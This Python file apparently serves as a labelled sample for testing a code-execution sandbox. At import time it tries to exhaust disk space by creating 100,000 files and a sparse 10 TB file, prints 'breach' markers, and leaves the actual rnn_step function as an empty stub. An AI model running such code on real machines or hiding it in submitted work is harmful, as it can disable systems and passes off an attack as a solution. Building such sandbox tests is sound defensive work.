"""Makes 100,000 empty files, and a file that says it holds 10 TB.

attack: disk
earns: 0
told: nothing_returned, limit_files
"""

import os

os.makedirs("kata_attack_files", exist_ok=True)


def attempt():
    made = 0
    for number in range(100_000):
        try:
            open(f"kata_attack_files/{number}", "xb").close()
        except OSError:
            break
        made += 1
    if made > 50_000:
        print("kata" + "_breach: files without end")
    try:
        with open("kata_attack_files/sparse", "xb") as file:
            file.truncate(10 * 2**40)
        print("kata" + "_breach: a file of 10 TB")
    except OSError:
        pass


attempt()


def rnn_step(x_t, h, kernel, recurrent_kernel, bias):
    return None
